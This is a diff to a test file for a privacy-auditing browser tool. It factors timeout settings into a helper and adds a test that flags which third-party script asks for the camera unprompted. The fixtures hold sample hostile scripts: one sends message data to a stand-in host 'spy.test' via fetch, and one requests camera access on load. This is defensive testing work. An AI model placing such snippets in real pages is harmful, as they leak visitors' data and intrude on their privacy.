@@ -27,9 +27,11 @@ async function typedInto(body: string, script: string): Promise<TypedPage> {
       body: `<script>onmessage = (e) => fetch("http://spy.test/frame?v=" + e.data)</script>`,
     },
   });
-  const limits = { ...PRIVACY_LIMITS, loadMs: 40_000 };
-  const signal = AbortSignal.timeout(110_000);
-  return await typeInPage(web.browser, { url: "http://shop.test/", limits, userAgent: null, signal });
+  return await typeInPage(web.browser, { ...patient(), url: "http://shop.test/", userAgent: null });
+}
+
+function patient() {
+  return { limits: { ...PRIVACY_LIMITS, loadMs: 40_000 }, signal: AbortSignal.timeout(110_000) };
 }
 
 /** What reached servers besides the page itself. */
@@ -163,6 +165,16 @@ describe("a page seen by another new visitor", () => {
       notificationsAskedBy: [],
       fingerprintCalls: [],
     });
+  });
+
+  it("tells which script asks for the camera or microphone by itself, where browsers let it", async () => {
+    const script = `const ask = (wanted) => navigator.mediaDevices.getUserMedia(wanted).catch(() => {});
+      ask({ video: { width: 640 }, audio: false }); addEventListener("click", () => ask({ audio: true }));`;
+    const secure = "http://localhost/";
+    const body = "<!doctype html><title>Shop</title><script src='http://spy.test/script.js'></script>";
+    web.serve({ "localhost/": { body }, "spy.test/script.js": { type: "text/javascript", body: script } });
+    const { recordersAsked } = await typeInPage(web.browser, { ...patient(), url: secure, userAgent: null });
+    expect(recordersAsked).toEqual([{ device: "camera", scriptUrl: "http://spy.test/script.js" }]);
   });
 
   it("tells what is sent once the visitor scrolls, and lets none of it go", async () => {
